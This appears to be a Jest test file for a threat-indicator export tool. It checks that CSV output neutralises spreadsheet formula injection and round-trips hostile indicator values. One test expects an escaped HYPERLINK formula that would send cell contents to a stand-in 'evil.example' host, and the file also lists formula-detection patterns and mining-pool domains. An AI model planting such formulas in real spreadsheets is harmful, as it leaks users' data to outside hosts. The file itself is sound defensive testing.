import { describe, expect, test } from '@jest/globals';
import { exportLookups } from '../../../src/convert/export/formats.ts';
import type { Lookup } from '../../../src/lookups/parse.ts';
import { makeOf } from '../../support/feeds.ts';
import { HOSTILE, hostile } from '../../support/hostile.ts';
import { lookupOf, TODAY } from '../../support/tables.ts';

const CSV = {
  format: 'csv',
  csv: {
    column: 'value',
    delimiter: ',',
    port: 'port',
    first_seen: 'first_seen',
    last_seen: 'last_seen',
    reference: 'reference',
    note: 'note',
    expires: 'expires',
  },
} as const;

function csvOf(...lookups: readonly Lookup[]): string {
  return exportLookups(lookups, 'csv', TODAY).text;
}

const named = ({ value, port }: { value: string | number; port?: number }): string => [value, port].join(' ');

/** Cells as RFC 4180 has them, and as a spreadsheet takes them. */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
}

describe('CSV', () => {
  test('no cell of any lookup begins a formula', () => {
    const cells = cellsOf(csvOf(...HOSTILE));
    expect(cells.filter((cell) => /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"click")`);
    expect(cells).toContain("'-dash.example.org");
  });

  test('every line has a cell of each column, whatever stands in them', () => {
    const text = csvOf(...HOSTILE);
    const columns = (text.slice(0, text.indexOf('\r\n')).match(/,/g) ?? []).length + 1;
    const rows = HOSTILE.reduce((sum, { indicators }) => sum + indicators.length, 0);
    expect(cellsOf(text)).toHaveLength(columns * (rows + 1));
    expect(text.replaceAll(/"(?:[^"]|"")*"(?:,|\r\n)/g, '')).toBe('');
  });

  test('lists stand as JSON', () => {
    expect(cellsOf(csvOf(hostile('command-line')))).toContain('["gcc*","it\'s"]');
  });

  test('a feed of it makes the rows it was made of', () => {
    const rows = [
      {
        value: '-dash.example.org',
        note: '=1+1 "and", more',
        reference: 'https://example.org/a?b=1,2',
        first_seen: '2026-10-01',
        last_seen: '2026-11-01',
        expires: '2027-01-01',
      },
      { value: 'minexmr.com', note: "'=1" },
      { value: 'nanopool.org', note: "it's" },
    ];
    const text = csvOf(lookupOf('domain', rows));
    const common = { type: 'domain-name', confidence: 'medium', reference: 'https://example.org/' };
    expect(makeOf(text, CSV).rows).toEqual(rows.map((row) => ({ ...common, ...row })));
  });

  test.each(['domain', 'address', 'url', 'process'] as const)('%s: the values of hostile rows come back', (kind) => {
    const { indicators } = hostile(kind);
    const kept = indicators.filter(({ type }) => kind !== 'process' || type === 'file');
    const { rows } = makeOf(csvOf({ ...hostile(kind), indicators: kept }), { ...CSV, kind, max_bad: 0.9 });
    // The guards refuse addresses of documentation.
    const guarded = new Set(['203.0.113.9/x OR  y AND z', '2001:db8::9/m.js']);
    expect(rows.map(named)).toEqual(kept.filter(({ value }) => !guarded.has(value)).map(named));
  });
});
